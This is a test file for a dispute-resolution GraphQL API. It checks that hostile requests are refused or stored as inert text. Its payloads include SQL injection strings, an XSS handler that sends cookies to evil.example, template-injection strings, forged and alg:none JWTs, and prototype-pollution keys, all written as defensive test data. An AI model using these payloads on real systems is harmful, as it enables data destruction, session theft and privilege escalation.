import { openedStream } from './support/opened-events';
import { createHmac } from 'node:crypto';
import { apiActors, must, phoneClaim, startTestApp, type Account, type TestApp } from '@recours/testing';
import { reportFigures, Tally } from './support/figures';
import { gql, outcomeOf, send, type HttpAnswer } from './support/http';
import { query, waitForProjections } from './support/read-models';

/**
 * Hostile input through the real HTTP stack: every case is answered with the right error code
 * and writes nothing (events and accounts counted before and after); text is stored exactly as
 * given and never executed: messages round-trip byte for byte, through the events and the
 * read models.
 */
const SECRET = 'test-secret-that-is-long-enough-for-hs256-signing'; // startTestApp's JWT_SECRET

type Dispute = { id: string; version: number; messages: Array<{ body: string }>; timeline: Array<{ type: string; text: string }> };

const b64 = (value: object | string) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
function signJwt(header: object, payload: object, secret = SECRET, algorithm: 'sha256' | 'sha512' = 'sha256'): string {
  const unsigned = `${b64(header)}.${b64(payload)}`;
  return `${unsigned}.${createHmac(algorithm, secret).update(unsigned).digest('base64url')}`;
}

describe('hostile input: refused with the right code, nothing written, text never executed', () => {
  let api: TestApp;
  let consumer: Account;
  let merchant: Account;
  let disputeId: string;
  const codes = new Tally();
  let cases = 0;
  let roundTrips = 0;
  const specialText: Record<string, string> = {};
  const timings: Record<string, number> = {};

  const counts = async () => {
    const [row] = await query<{ events: number; accounts: number; merchants: number }>(
      api.database.url,
      `SELECT (SELECT count(*)::int FROM event_store.events) AS events, (SELECT count(*)::int FROM accounts.accounts) AS accounts, (SELECT count(*)::int FROM accounts.merchants) AS merchants`,
    );
    return row;
  };
  /** Runs a hostile request and checks it wrote nothing. */
  const refused = async <T,>(request: () => Promise<T>): Promise<T> => {
    const before = await counts();
    const answer = await request();
    expect(await counts()).toEqual(before);
    cases++;
    codes.add(outcomeOf(answer as HttpAnswer));
    return answer;
  };
  const POST_MESSAGE = `mutation($input: PostMessageInput!) { postMessage(input: $input) { id version } }`;
  const post = (input: Record<string, unknown>, token = consumer.token) => gql(api.url, POST_MESSAGE, { input: { disputeId, ...input } }, { token });
  const fieldsOf = (answer: HttpAnswer) => ((answer.errors?.[0].extensions?.fields ?? []) as Array<{ field: string }>).map((f) => f.field);

  beforeAll(async () => {
    api = await startTestApp('hostile');
    const actors = apiActors(api);
    consumer = await actors.consumer('Hostile consumer');
    merchant = await actors.merchant('Hostile merchant');
    disputeId = must(await api.gql<{ fileClaim: { id: string } }>(`mutation($input: FileClaimInput!) { fileClaim(input: $input) { id } }`, { input: phoneClaim(merchant.merchantId as string) }, consumer.token), 'file').fileClaim.id;
  });
  afterAll(async () => {
    reportFigures('hostile input', {
      'hostile requests (each checked to write nothing)': cases,
      'answers by code': codes.counts,
      'texts round-tripped byte for byte': roundTrips,
      'NUL and lone surrogates': specialText,
      'answer time ms': timings,
    });
    await api?.close();
  });

  describe('the HTTP envelope', () => {
    it('malformed JSON is answered 400, not parsed further', async () => {
      for (const body of ['{"query": "mutation { postMessage', '{"query": 1}', 'null', '[]', '"just a string"', '{"query":"{ __typename }", "variables": "not an object"}']) {
        const answer = await refused(() => send(api.url, body, { token: consumer.token }));
        expect({ body, status: answer.status }).toEqual({ body, status: 400 });
      }
    });

    it('a wrong Content-Type cannot run a mutation (no CSRF through a simple request)', async () => {
      const body = JSON.stringify({ query: POST_MESSAGE, variables: { input: { disputeId, body: 'sent as text/plain' } } });
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml']) {
        const answer = await refused(() => send(api.url, body, { token: consumer.token, headers: { 'content-type': type } }));
        expect({ type, status: answer.status }).toEqual({ type, status: expect.any(Number) });
        expect(answer.status).toBeGreaterThanOrEqual(400);
        expect(answer.status).toBeLessThan(500);
      }
      const viaGet = await refused(() => send(`${api.url}?query=${encodeURIComponent('mutation { postMessage(input: {disputeId: "' + disputeId + '", body: "via GET"}) { id } }')}`, undefined, { method: 'GET', token: consumer.token, headers: { 'apollo-require-preflight': 'true' } }));
      expect(viaGet.status).toBe(405);
    });

    it('a batch of operations is refused', async () => {
      const answer = await refused(() => send(api.url, JSON.stringify([{ query: '{ __typename }' }, { query: '{ __typename }' }])));
      expect(answer.status).toBe(400);
    });

    it('a body over the limit is refused with 413 before parsing, and one just under it by the field rules', async () => {
      const huge = await refused(() => post({ body: 'x'.repeat(1_000_000) }));
      expect(huge.status).toBe(413);
      const large = await refused(() => post({ body: 'x'.repeat(200_000) }));
      expect(outcomeOf(large)).toBe('BAD_USER_INPUT');
      expect(fieldsOf(large)).toContain('input.body');
      const header = await refused(() => send(api.url, JSON.stringify({ query: '{ __typename }' }), { headers: { 'x-padding': 'y'.repeat(64_000) } }));
      expect(header.status).toBe(431);
    });
  });

  describe('the shape of the operation', () => {
    it('a query nested 50 deep is refused before any resolver runs', async () => {
      const deep = `{ me ${'{ merchantId '.repeat(49)}${'}'.repeat(49)} }`;
      const answer = await refused(() => gql(api.url, deep, undefined, { token: consumer.token }));
      expect(answer.status).toBe(400);
      expect(answer.errors?.map((e) => e.extensions?.code)).toContain('GRAPHQL_VALIDATION_FAILED');
      expect(answer.errors?.map((e) => e.message).join(' ')).toMatch(/too deep/);
    });

    it('a query nested 10,000 deep does not crash the server', async () => {
      const deeper = `{ me ${'{ id '.repeat(9_999)}${'}'.repeat(9_999)} }`;
      const answer = await refused(() => gql(api.url, deeper, undefined, { token: consumer.token }));
      timings['10,000 deep'] = Math.round(answer.ms);
      expect(answer.status).toBe(400);
      expect((await gql(api.url, '{ __typename }')).data).toEqual({ __typename: 'Query' });
    });

    it('10,000 aliases are refused quickly, without running 10,000 resolvers', async () => {
      const aliases = `{ ${Array.from({ length: 10_000 }, (_, i) => `a${i}: me { id }`).join(' ')} }`;
      const answer = await refused(() => gql(api.url, aliases, undefined, { token: consumer.token }));
      timings['10,000 aliases'] = Math.round(answer.ms);
      expect(answer.status).toBe(400);
      expect(answer.errors?.[0].extensions?.code).toMatch(/^GRAPHQL_(PARSE|VALIDATION)_FAILED$/);
      expect(answer.errors?.[0].message).toMatch(/too many fields|more th\w+ \d+ tokens/);
      // Refused by the parser or validation: no resolver ran (its time is a figure, not an assertion).
      // Under the token limit, the field limit refuses an operation of 450 aliases.
      const wide = await refused(() => gql(api.url, `{ ${Array.from({ length: 450 }, (_, i) => `a${i}: __typename`).join(' ')} }`, undefined, { token: consumer.token }));
      expect(wide.errors?.[0].extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
      expect(wide.errors?.[0].message).toMatch(/too many fields/);
      const mutations = `mutation { ${Array.from({ length: 1_000 }, (_, i) => `m${i}: postMessage(input: {disputeId: "${disputeId}", body: "alias ${i}"}) { id }`).join(' ')} }`;
      const many = await refused(() => gql(api.url, mutations, undefined, { token: consumer.token }));
      expect(many.status).toBe(400);
    });

    it('a burst of 10,000-alias queries does not starve the other clients', async () => {
      const aliases = `{ ${Array.from({ length: 10_000 }, (_, i) => `a${i}: me { id }`).join(' ')} }`;
      const burst = Array.from({ length: 8 }, () => gql(api.url, aliases, undefined, { token: consumer.token }));
      await new Promise((r) => setTimeout(r, 50));
      const legit = await gql(api.url, `{ me { id } }`, undefined, { token: consumer.token });
      const refusedBurst = await Promise.all(burst);
      timings['a legitimate query during a burst of 8 × 10,000 aliases'] = Math.round(legit.ms);
      timings['slowest refusal in the burst'] = Math.round(Math.max(...refusedBurst.map((a) => a.ms)));
      expect(refusedBurst.map((a) => a.status)).toEqual(refusedBurst.map(() => 400));
      // Answered, not queued behind the burst until it timed out; how long it took is reported,
      // never asserted (these machines are noisy).
      expect(outcomeOf(legit)).toBe('OK');
    });

    it('fragment cycles and unknown fields are refused by validation', async () => {
      const cycle = await refused(() => gql(api.url, `query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }`));
      expect(cycle.status).toBe(400);
      expect(cycle.errors?.[0].extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
      const unknown = await refused(() => gql(api.url, `mutation { dropEverything }`));
      expect(unknown.errors?.[0].extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
    });
  });

  describe('values', () => {
    it('dates that do not exist are refused by name, never rolled over', async () => {
      const claim = phoneClaim(merchant.merchantId as string);
      const broken: Array<[string, Record<string, unknown>]> = [
        ['input.purchase.deliveredOn', { ...claim, purchase: { ...claim.purchase, deliveredOn: '2025-02-30' } }],
        ['input.problem.firstNoticedOn', { ...claim, problem: { ...claim.problem, firstNoticedOn: '2025-04-31' } }],
        ['input.problem.chronology.0.on', { ...claim, problem: { ...claim.problem, chronology: [{ on: '2025-13-01', what: 'a thirteenth month' }] } }],
        ['input.priorWrittenComplaintOn', { ...claim, priorWrittenComplaintOn: '2025-2-3' }],
        ['input.purchase.purchasedOn', { ...claim, purchase: { ...claim.purchase, purchasedOn: '+275760-09-13' } }],
      ];
      for (const [field, input] of broken) {
        const answer = await refused(() => gql(api.url, `mutation($input: FileClaimInput!) { fileClaim(input: $input) { id } }`, { input }, { token: consumer.token }));
        expect({ field, code: outcomeOf(answer), fields: fieldsOf(answer).some((f) => f.startsWith(field.replace(/\.0\./, '.'))) || fieldsOf(answer).includes(field) }).toEqual({ field, code: 'BAD_USER_INPUT', fields: true });
      }
      for (const at of ['2025-02-30', '2025-02-30T10:00:00Z', '2025-13-01', 'yesterday', '']) {
        const answer = await refused(() => gql(api.url, `query($id: ID!, $at: String!) { disputeAsOf(id: $id, at: $at) { id } }`, { id: disputeId, at }, { token: consumer.token }));
        expect({ at, code: outcomeOf(answer) }).toEqual({ at, code: 'BAD_USER_INPUT' });
      }
      const rights = await refused(() =>
        gql(api.url, `query($input: RightsAssessmentInput!) { rightsAssessment(input: $input) { supported } }`, {
          input: { jurisdiction: 'FR', condition: 'NEW', purchasedOn: '2025-02-29', deliveredOn: '2025-03-01', defectNoticedOn: '2025-06-01', price: { amount: '100.00', currency: 'EUR' } },
        }),
      );
      expect(outcomeOf(rights)).toBe('BAD_USER_INPUT');
    });

    it('negative, absurd and non-decimal amounts and numbers are refused', async () => {
      const MAKE_OFFER = `mutation($input: MakeOfferInput!) { makeOffer(input: $input) { id } }`;
      for (const amount of ['-10.00', '1e9', '0x10', 'NaN', 'Infinity', '1.234', '9999999999999.00', ' 12.00', '12,00', '', '١٢']) {
        const answer = await refused(() => gql(api.url, MAKE_OFFER, { input: { disputeId, remedy: 'REFUND', amount: { amount, currency: 'EUR' }, terms: 'x' } }, { token: merchant.token }));
        expect({ amount, code: outcomeOf(answer) }).toEqual({ amount, code: 'BAD_USER_INPUT' });
      }
      for (const amount of [12, 12.5, true, null, { value: 1 }]) {
        const answer = await refused(() => gql(api.url, MAKE_OFFER, { input: { disputeId, remedy: 'REFUND', amount: { amount, currency: 'EUR' }, terms: 'x' } }, { token: merchant.token }));
        expect({ amount, code: outcomeOf(answer) }).toEqual({ amount, code: 'BAD_USER_INPUT' });
      }
      for (const currency of ['eur', 'EURO', '€', '', 'E1R']) {
        const answer = await refused(() => gql(api.url, MAKE_OFFER, { input: { disputeId, remedy: 'REFUND', amount: { amount: '10.00', currency }, terms: 'x' } }, { token: merchant.token }));
        expect({ currency, code: outcomeOf(answer) }).toEqual({ currency, code: 'BAD_USER_INPUT' });
      }
      for (const daysToCarryOut of [-1, 0, 100_000, 2 ** 31, 1.5]) {
        const answer = await refused(() => gql(api.url, MAKE_OFFER, { input: { disputeId, remedy: 'REPAIR', daysToCarryOut, terms: 'x' } }, { token: merchant.token }));
        expect({ daysToCarryOut, code: outcomeOf(answer) }).toEqual({ daysToCarryOut, code: 'BAD_USER_INPUT' });
      }
      for (const expectedVersion of [-1, 2 ** 31, 1.5, '0']) {
        const answer = await refused(() => post({ body: 'versioned', expectedVersion }));
        expect({ expectedVersion, code: outcomeOf(answer) }).toEqual({ expectedVersion, code: 'BAD_USER_INPUT' });
      }
      const price = await refused(() =>
        gql(api.url, `mutation($input: FileClaimInput!) { fileClaim(input: $input) { id } }`, { input: phoneClaim(merchant.merchantId as string, { purchase: { ...phoneClaim('x').purchase, price: { amount: '-0.01', currency: 'EUR' } } }) }, { token: consumer.token }),
      );
      expect(outcomeOf(price)).toBe('BAD_USER_INPUT');
    });

    it('unknown enum values are refused, in variables and inline', async () => {
      for (const visibility of ['PUBLIC', 'all', '', 'ALL; DROP TABLE']) {
        const answer = await refused(() => post({ body: 'enum', visibility }));
        expect({ visibility, code: outcomeOf(answer) }).toEqual({ visibility, code: 'BAD_USER_INPUT' });
      }
      const inline = await refused(() => gql(api.url, `mutation { postMessage(input: {disputeId: "${disputeId}", body: "x", visibility: EVERYONE}) { id } }`, undefined, { token: consumer.token }));
      expect(inline.status).toBe(400);
      expect(inline.errors?.[0].extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
      const asString = await refused(() => gql(api.url, `mutation { postMessage(input: {disputeId: "${disputeId}", body: "x", visibility: "ALL"}) { id } }`, undefined, { token: consumer.token }));
      expect(asString.errors?.[0].extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
    });

    it('unknown fields, prototype keys and wrong types in the input are refused', async () => {
      // Sent as raw JSON: an own "__proto__" key, as a hostile client would write it.
      for (const extra of ['"__proto__": {"role": "ADMIN"}', '"constructor": {"prototype": {"role": "ADMIN"}}', '"actor": "admin"', '"at": "2020-01-01T00:00:00Z"', '"type": "CloseDispute"']) {
        const body = `{"query": ${JSON.stringify(POST_MESSAGE)}, "variables": {"input": {"disputeId": "${disputeId}", "body": "with extras", ${extra}}}}`;
        const answer = await refused(() => send(api.url, body, { token: consumer.token }));
        expect({ extra, code: outcomeOf(answer) }).toEqual({ extra, code: 'BAD_USER_INPUT' });
      }
      const wrongType = await refused(() => post({ body: ['a', 'list'] }));
      expect(outcomeOf(wrongType)).toBe('BAD_USER_INPUT');
      const notAnId = await refused(() => gql(api.url, POST_MESSAGE, { input: { disputeId: "' OR 1=1 --", body: 'x' } }, { token: consumer.token }));
      expect(outcomeOf(notAnId)).toBe('BAD_USER_INPUT');
      const readNotAnId = await refused(() => gql(api.url, `query($id: ID!) { dispute(id: $id) { id } }`, { id: "x' OR '1'='1" }, { token: consumer.token }));
      expect(outcomeOf(readNotAnId)).toBe('BAD_USER_INPUT');
    });
  });

  describe('tokens', () => {
    const now = () => Math.floor(Date.now() / 1000);
    const claims = () => ({ sub: consumer.id, role: 'CONSUMER', iat: now(), exp: now() + 3600 });
    const tokens = (): Array<[string, string]> => {
      const [header, payload] = consumer.token.split('.');
      const adminPayload = b64({ ...JSON.parse(Buffer.from(payload, 'base64url').toString()), role: 'ADMIN' });
      return [
        ['signed with another secret', signJwt({ alg: 'HS256', typ: 'JWT' }, claims(), 'another-secret-that-is-long-enough-to-look-real')],
        ['expired', signJwt({ alg: 'HS256', typ: 'JWT' }, { ...claims(), iat: now() - 7200, exp: now() - 3600 })],
        ['alg none, no signature', `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims())}.`],
        ['alg none, with a signature', `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims())}.${b64('sig')}`],
        ['alg None (case)', `${b64({ alg: 'None', typ: 'JWT' })}.${b64(claims())}.`],
        ['HS512 with the right secret', signJwt({ alg: 'HS512', typ: 'JWT' }, claims(), SECRET, 'sha512')],
        ['RS256 header, HMAC signature', signJwt({ alg: 'RS256', typ: 'JWT' }, claims())],
        ['payload changed to ADMIN, signature kept', `${header}.${adminPayload}.${consumer.token.split('.')[2]}`],
        ['an unknown role, correctly signed', signJwt({ alg: 'HS256', typ: 'JWT' }, { ...claims(), role: 'SUPERUSER' })],
        ['no subject, correctly signed', signJwt({ alg: 'HS256', typ: 'JWT' }, { role: 'CONSUMER', iat: now(), exp: now() + 3600 })],
        ['not yet valid', signJwt({ alg: 'HS256', typ: 'JWT' }, { ...claims(), nbf: now() + 3600 })],
        ['garbage', 'not.a.token'],
        ['two parts', `${header}.${payload}`],
      ];
    };

    it.each(['a mutation', 'a query'])('forged, expired and alg:none tokens are UNAUTHENTICATED for %s, and write nothing', async (what) => {
      for (const [name, token] of tokens()) {
        const answer = await refused(() => (what === 'a mutation' ? post({ body: `as ${name}` }, token) : gql(api.url, `{ me { id role } }`, undefined, { token })));
        expect({ name, code: outcomeOf(answer), data: answer.data ?? null }).toEqual({ name, code: 'UNAUTHENTICATED', data: null });
      }
      for (const authorization of ['Basic YWRtaW46YWRtaW4=', 'Bearer', 'Bearer ', `Token ${consumer.token}`, `Bearer ${consumer.token} extra`]) {
        const answer = await refused(() => send(api.url, JSON.stringify({ query: `{ me { id } }` }), { headers: { authorization } }));
        expect({ authorization, code: outcomeOf(answer) }).toEqual({ authorization, code: 'UNAUTHENTICATED' });
      }
    });
  });

  describe('text is data, stored as given and never executed', () => {
    const PAYLOADS: Array<[string, string]> = [
      ['SQL', `'); DROP TABLE event_store.events; --`],
      ['SQL in quotes', `" OR "1"="1" -- ' OR '1'='1`],
      ['SQL comment and semicolons', `1; SELECT pg_sleep(10); /* */`],
      ['script', `<script>alert(document.cookie)</script>`],
      ['HTML event handler', `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`],
      ['template injection', '{{constructor.constructor("return process")().exit()}} ${process.exit(1)} #{7*7} <%= 7*7 %>'],
      ['format strings', '%s %n %x %d %% \\x00 \\u0000'],
      ['JSON breaker', `"}], "role": "ADMIN", "x": [{"`],
      ['LIKE wildcards', `%_\\%\\_`],
      // Right-to-left text and marks, not the overrides that reverse what follows them (refused: below).
      ['unicode', 'Zoë 🔋📱 — « guillemets » — ١٢٣ — 中文 — e\u0301 — \u200d\u200b — \u200fעברית\u200e'],
      ['line separators', 'line1\r\nline2\u2028line3\u2029line4\ttab'],
      ['emoji families and astral', '👨‍👩‍👧‍👦 𝕳𝖊𝖑𝖑𝖔 🏳️‍🌈'],
      ['backslashes', '\\\\server\\share\\file.txt C:\\Windows\\System32'],
      ['at the limit', `${'é'.repeat(4_998)}!!`],
    ];

    it('messages round-trip byte for byte through the events, time travel and the read models', async () => {
      const posted: string[] = [];
      for (const [name, body] of PAYLOADS) {
        const answer = await post({ body });
        expect({ name, code: outcomeOf(answer) }).toEqual({ name, code: 'OK' });
        posted.push(body);
      }
      const read = must(await api.gql<{ dispute: Dispute }>(`query($id: ID!) { dispute(id: $id) { id messages { body } timeline { type text } } }`, { id: disputeId }, consumer.token), 'read').dispute;
      const bodies = read.messages.map((m) => m.body).slice(-posted.length);
      expect(bodies.map((b) => Buffer.from(b).toString('hex'))).toEqual(posted.map((b) => Buffer.from(b).toString('hex')));
      const asOf = must(await api.gql<{ disputeAsOf: Dispute }>(`query($id: ID!, $at: String!) { disputeAsOf(id: $id, at: $at) { messages { body } } }`, { id: disputeId, at: new Date(Date.now() + 1000).toISOString() }, consumer.token), 'asOf').disputeAsOf;
      expect(asOf.messages.map((m) => m.body).slice(-posted.length)).toEqual(posted);
      // The event store holds exactly what was sent; the tables are all still there.
      const stored = (await openedStream(api.database.url, `dispute-${disputeId}`)).filter((e) => e.type === 'MessagePosted').map((e) => (e.data as { body: string }).body);
      expect(stored.slice(-posted.length)).toEqual(posted);
      // The timeline read model quotes each body as it was written.
      await waitForProjections(api.database.url, 15_000);
      const timeline = await query<{ summary: string }>(api.database.url, `SELECT summary FROM read_models.dispute_timeline WHERE dispute_id = $1 AND event_type = 'MessagePosted' ORDER BY stream_version`, [disputeId]);
      for (const [i, body] of posted.entries()) expect(timeline.slice(-posted.length)[i].summary).toContain(body);
      roundTrips += posted.length;
    });

    it('product names and claim text round-trip through the claim and the consumer’s list', async () => {
      const name = `<b>Phone</b> '; DELETE FROM read_models.dispute_summaries; -- 📱`;
      const description = PAYLOADS.map(([, p]) => p.slice(0, 200)).join(' | ');
      const claim = phoneClaim(merchant.merchantId as string, { product: { ...phoneClaim('x').product, name }, problem: { ...phoneClaim('x').problem, description } });
      const filed = must(await api.gql<{ fileClaim: { id: string; product: { name: string }; problem: { description: string } } }>(`mutation($input: FileClaimInput!) { fileClaim(input: $input) { id product { name } problem { description } } }`, { input: claim }, consumer.token), 'file').fileClaim;
      expect(filed.product.name).toBe(name);
      expect(filed.problem.description).toBe(description);
      const list = must(await api.gql<{ myDisputes: { edges: Array<{ node: { id: string; product: { name: string } } }> } }>(`{ myDisputes(first: 100) { edges { node { id product { name } } } } }`, {}, consumer.token), 'list').myDisputes;
      expect(list.edges.find((e) => e.node.id === filed.id)?.node.product.name).toBe(name);
      roundTrips += 2;
    });

    it('the merchant search treats wildcards and quotes as text', async () => {
      const actors = apiActors(api);
      await actors.merchant('100% Phones_Shop');
      for (const search of ['%', '_', "' OR 1=1 --", '\\', '%%%%', "'; DROP TABLE accounts.merchants; --"]) {
        const answer = await refused(() => gql<{ merchants: Array<{ name: string }> }>(api.url, `query($search: String) { merchants(search: $search) { name } }`, { search }));
        expect({ search, code: outcomeOf(answer) }).toEqual({ search, code: 'OK' });
        for (const m of answer.data!.merchants) expect(m.name.toLowerCase()).toContain(search.toLowerCase());
      }
      expect((await query(api.database.url, `SELECT 1 FROM accounts.merchants LIMIT 1`)).length).toBe(1);
    });

    it('NUL and lone surrogates are either refused as bad input or stored as given, and never stop the projections', async () => {
      for (const [name, body] of [
        ['NUL', 'before\u0000after'],
        ['lone high surrogate', 'broken \ud800 pair'],
        ['lone low surrogate', 'broken \udc00 pair'],
      ] as const) {
        const answer = await post({ body });
        const code = outcomeOf(answer);
        specialText[name] = code === 'OK' ? 'stored as given' : code;
        expect({ name, code }).toEqual({ name, code: expect.stringMatching(/^(OK|BAD_USER_INPUT)$/) });
        if (code === 'OK') {
          const read = must(await api.gql<{ dispute: Dispute }>(`query($id: ID!) { dispute(id: $id) { messages { body } } }`, { id: disputeId }, consumer.token), 'read').dispute;
          expect(read.messages.at(-1)?.body).toBe(body);
        }
        // Whatever was accepted, the read models keep up: one message must not stop them for everyone.
        await waitForProjections(api.database.url, 10_000);
        const after = await post({ body: `after ${name}` });
        expect(outcomeOf(after)).toBe('OK');
      }
      // Invisible controls that change how a text reads (a right-to-left override, vertical tab and form feed) are refused, naming the field.
      for (const [name, body] of [
        ['right-to-left override', 'invoice \u202Egnp.exe\u202C'],
        ['vertical tab and form feed', 'a\vb\fc'],
      ] as const) {
        const answer = await post({ body });
        specialText[name] = outcomeOf(answer);
        expect({ name, code: outcomeOf(answer), field: (answer.errors?.[0]?.extensions?.fields as Array<{ code: string }> | undefined)?.[0]?.code }).toEqual({ name, code: 'BAD_USER_INPUT', field: 'INVISIBLE_CONTROL' });
      }
      for (const [name, displayName] of [
        ['NUL in a display name', 'Eve\u0000'],
        ['NUL in a search', 'x\u0000y'],
      ] as const) {
        const answer = await refused(() =>
          name.includes('search')
            ? gql(api.url, `query($search: String) { merchants(search: $search) { name } }`, { search: displayName })
            : gql(api.url, `mutation($input: SignUpInput!) { signUp(input: $input) { token } }`, { input: { email: `nul-${Date.now()}@example.test`, password: 'Correct-Horse-42', displayName, role: 'CONSUMER' } }),
        );
        expect({ name, code: outcomeOf(answer) }).toEqual({ name, code: 'BAD_USER_INPUT' });
      }
    });
  });
});
